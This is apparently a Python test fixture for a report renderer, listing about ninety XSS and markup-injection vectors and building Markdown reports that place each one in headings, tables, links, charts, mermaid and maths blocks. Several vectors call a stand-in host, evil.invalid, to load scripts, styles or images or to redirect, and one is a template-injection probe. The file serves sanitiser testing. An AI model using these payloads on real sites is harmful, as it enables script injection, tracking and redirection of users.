"""Ways to smuggle script, markup or a request into a page; each tries to call `alert` or to reach `evil.invalid`."""

import json

from schemas.evidence import Claim
from schemas.reporter import Report
from tests.services.reports.full import evidence

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script src=//evil.invalid/x.js></script>",
    "<script type=module>import('https://evil.invalid/m.js')</script>",
    "</script><script>alert(3)</script>",
    "</style><script>alert(4)</script>",
    "</title><script>alert(5)</script>",
    "</textarea><script>alert(6)</script>",
    "<!--><script>alert(7)</script-->",
    "<![CDATA[<script>alert(8)</script>]]>",
    "<img src=x onerror=alert(9)>",
    "<img src=https://evil.invalid/a.png>",
    "<img src='x' onerror='alert(10)'//",
    '"><img src=x onerror=alert(11)>',
    "'><img src=x onerror=alert(12)>",
    "`><img src=x onerror=alert(13)>",
    "<svg onload=alert(14)>",
    "<svg><script>alert(15)</script></svg>",
    "<svg><a xlink:href=javascript:alert(16)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(17) attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zy8+#x>",
    "<svg><foreignObject><iframe src=javascript:alert(18)></foreignObject></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(19)>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(20)></style></mglyph></table></mtext></math>",
    "<math href=javascript:alert(21)>x</math>",
    "<iframe src=javascript:alert(22)></iframe>",
    "<iframe srcdoc='<script>parent.alert(23)</script>'></iframe>",
    "<object data=javascript:alert(24)></object>",
    "<embed src=https://evil.invalid/e.swf>",
    "<link rel=stylesheet href=https://evil.invalid/s.css>",
    "<link rel=prefetch href=https://evil.invalid/p>",
    "<style>@import 'https://evil.invalid/i.css';</style>",
    "<style>body{background:url(https://evil.invalid/b.png)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<base href=https://evil.invalid/>",
    "<form action=https://evil.invalid/><button>go</button></form>",
    "<form><button formaction=javascript:alert(25)>x</button></form>",
    "<input autofocus onfocus=alert(26)>",
    "<select autofocus onfocus=alert(27)>",
    "<details open ontoggle=alert(28)>x</details>",
    "<video><source onerror=alert(29)></video>",
    "<video poster=https://evil.invalid/v.png></video>",
    "<audio src=https://evil.invalid/a.mp3 autoplay onerror=alert(30)>",
    "<body onload=alert(31)>",
    "<marquee onstart=alert(32)>x</marquee>",
    "<div style=\"background:url('https://evil.invalid/d.png')\">x</div>",
    "<div style=position:fixed;inset:0;z-index:99>covering</div>",
    "<a href=javascript:alert(33)>x</a>",
    "<a href='jav\tascript:alert(34)'>x</a>",
    "<a href=' javascript:alert(35)'>x</a>",
    "<a href='data:text/html,<script>alert(36)</script>'>x</a>",
    "<a href='vbscript:msgbox(37)'>x</a>",
    "[x](javascript:alert(38))",
    "[x](JaVaScRiPt:alert(39))",
    "[x](java&#115;cript:alert(40))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCg0MSk8L3NjcmlwdD4=)",
    "[x](<javascript:alert(42)>)",
    "![x](https://evil.invalid/md.png)",
    "![x](javascript:alert(43))",
    '![x" onerror="alert(44)](x)',
    '[x](https://evil.invalid/"onmouseover="alert(45))',
    "<https://evil.invalid/auto>",
    "<javascript:alert(46)>",
    "[[1]](javascript:alert(47))",
    "[[999999]](https://evil.invalid/c)",
    "`<script>alert(48)</script>`",
    "$\\href{javascript:alert(49)}{x}=1$",
    "$\\text{<img src=x onerror=alert(50)>}=1$",
    "$\\text{</math><script>alert(51)</script>}=1$",
    "$\\style{background:url(https://evil.invalid/m)}{x}=1$",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${alert(52)}",
    "{a|x}{b|<img src=x onerror=alert(53)>}",
    "image://https://evil.invalid/sym.png",
    "function(){alert(54)}",
    '=HYPERLINK("https://evil.invalid")',
    "%%{init: {'securityLevel': 'loose'}}%% click A \"javascript:alert(55)\"",
    "A[<img src=x onerror=alert(56)>] --> B",
    "&lt;script&gt;alert(57)&lt;/script&gt;",
    "&#60;script&#62;alert(58)&#60;/script&#62;",
    "\\x3cscript\\x3ealert(59)\\x3c/script\\x3e",
    "\u2028<script>alert(60)</script>\u2029",
    "\ufeff<script>alert(61)</script>",
    "<scr\u0000ipt>alert(62)</scr\u0000ipt>",
    '<noscript><p title="</noscript><img src=x onerror=alert(63)>">',
    "<template><script>alert(64)</script></template>",
    "<xmp><script>alert(65)</script></xmp>",
    "<plaintext>",
    "<frameset onload=alert(66)>",
    "<isindex type=image src=1 onerror=alert(67)>",
]


def hostile(vector: str, *, drawn: bool = True) -> tuple[str, str]:
    """Return Markdown with a vector in every place that a model or a page writes, and a quote that is one; drawings may be left out."""
    line = vector.replace("\n", " ")
    chart = {
        "type": "bar", "title": line[:100], "unit": line[:30] or "m", "categories": [line[:100], "b"],
        "series": [{"name": line[:100], "values": [40, 10994]}], "sources": ["E1-4"],
    }  # fmt: skip
    markdown = "\n\n".join([
        f"> {line}",
        f"**TL;DR** {line} [[1]](https://example.org/depth/1)",
        f"## {line}",
        f"{line} **{line}** [[1]](https://example.org/depth/1)",
        f"- {line}\n- **{line}**",
        f"> {line} [[2]](sources/{'0' * 64}.txt)",
        f"| {line.replace('|', ' ')} | b |\n| --- | --- |\n| {line.replace('|', ' ')} | c |",
        *([f"```chart\n{json.dumps(chart)}\n```", f"```mermaid\ngraph LR; {line}\n```"] if drawn else []),
        f"```\n{line}\n```",
        f"$$\nx = {line}\n$$",
        f"$x = {line}$",
        line,
        f"[{line}](https://example.org/ok)",
    ])  # fmt: skip
    return markdown, f"{vector} On 23 March 1875 it was 40 metres, 10,994 metres in 2010."


def hostile_report(vectors: list[str], drawn: int = len(VECTORS)) -> Report:
    """Return a report of vectors, of which the first are in drawings, too."""
    made = (hostile(vector, drawn=place < drawn) for place, vector in enumerate(vectors))
    bodies, quotes = zip(*made, strict=True)
    excerpts, sources = evidence([f"{quote} {place}" for place, quote in enumerate(quotes)])
    listed = []
    for place, (source, vector) in enumerate(zip(sources.values(), vectors, strict=True), 1):
        told = {"number": place, "title": vector, "published": vector}
        url = vector if place % 3 else f"https://example.org/{vector}"
        listed.append(source.model_copy(update={**told, "url": url}))
    claims = [
        Claim(text=f"{one} 40 metres", citations=[f"E1-{place}"], verified=True) for place, one in enumerate(vectors, 1)
    ]
    title = " ".join(vectors[:6])
    return Report(
        title=title, question=" ".join(vectors), locale="en-US", markdown=f"# {title}\n\n" + "\n\n".join(bodies),
        sources=listed, excerpts=excerpts, citations=claims,
    )  # fmt: skip
